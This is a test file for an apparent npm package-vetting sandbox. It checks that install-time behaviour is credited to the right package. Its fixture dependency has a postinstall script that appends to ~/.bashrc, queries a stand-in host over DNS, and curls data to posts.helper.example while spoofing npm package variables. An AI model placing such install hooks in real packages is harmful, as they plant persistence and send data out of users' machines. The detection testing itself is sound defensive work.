/**
 * What the script of a dependency does at install is credited to that dependency, wherever it goes and whatever it tells the
 * programs that it starts; what the server's own script does, to the server.
 */
import { cpSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { PROFILES } from '../../src/sandbox/world/profiles.ts';
import { type FakeRegistry, startRegistry } from '../registry/registry.ts';
import { vetFolder } from './vet-folder.ts';

const [laptop] = PROFILES;
if (!laptop) throw new Error('there is no profile');
const HONEST = join(import.meta.dirname, '..', 'packages', 'honest-tool');
const ELSEWHERE = `
const { execFileSync } = require('node:child_process');
const { appendFileSync } = require('node:fs');
process.chdir('/tmp');
appendFileSync(process.env.HOME + '/.bashrc', '# of the helper');
require('node:dns').resolveTxt('asks.helper.example', () => {});
const env = { ...process.env, npm_package_name: 'server', npm_package_json: process.env.INIT_CWD + '/package.json' };
execFileSync('sh', ['-c', 'curl -s -d x http://posts.helper.example/; true'], { env, cwd: '/tmp' });
`;
const OWN = "fetch('http://posts.server.example/', { method: 'POST', body: 'x' }).catch(() => {});";

let fake: FakeRegistry;
beforeAll(async () => {
  const manifest = { name: 'helper', version: '1.0.0', scripts: { postinstall: 'node setup.js' } };
  fake = await startRegistry([{ ...manifest, manifest, files: { 'setup.js': ELSEWHERE, 'index.js': '' } }]);
});
afterAll(() => fake.close());

function server(): string {
  const folder = join(fake.home, 'server');
  const scripts = { postinstall: 'node own.js' };
  const dependencies = { helper: '1.0.0' };
  const manifest = { name: 'server', version: '1.0.0', main: 'index.js', bin: 'server.js', dependencies, scripts };
  cpSync(HONEST, folder, { recursive: true });
  writeFileSync(join(folder, 'package.json'), JSON.stringify(manifest));
  writeFileSync(join(folder, 'own.js'), OWN);
  return folder;
}

test('scripts of a dependency and of the server, each by itself', async () => {
  const { observations, findings } = await vetFolder(server(), fake, [laptop]);
  const installed = observations.filter(({ phase }) => phase === 'install');
  const by = (id: string) => installed.filter((one) => one.package === id).map((one) => JSON.stringify(one));
  const [helper, own] = [by('helper@1.0.0'), by('server@1.0.0')];
  for (const part of ['"argv":["sh","-c","node setup.js"]', '"path":"/usr/bin/curl"', '/.bashrc']) {
    expect(
      helper.filter((one) => one.includes(part)),
      part,
    ).not.toEqual([]);
    expect(
      own.filter((one) => one.includes(part)),
      part,
    ).toEqual([]);
  }
  const hosts = (all: readonly string[]) => new Set(all.flatMap((one) => one.match(/\w+\.\w+\.example/g) ?? []));
  expect(hosts(helper)).toEqual(new Set(['asks.helper.example', 'posts.helper.example']));
  expect(hosts(own)).toEqual(new Set(['posts.server.example']));
  const credited = (rule: string) => findings.filter((one) => one.rule === rule).map((one) => one.package);
  expect(credited('persistence-written')).toEqual(['helper@1.0.0']);
  expect(credited('sent-unasked').sort()).toEqual(['helper@1.0.0', 'server@1.0.0']);
});
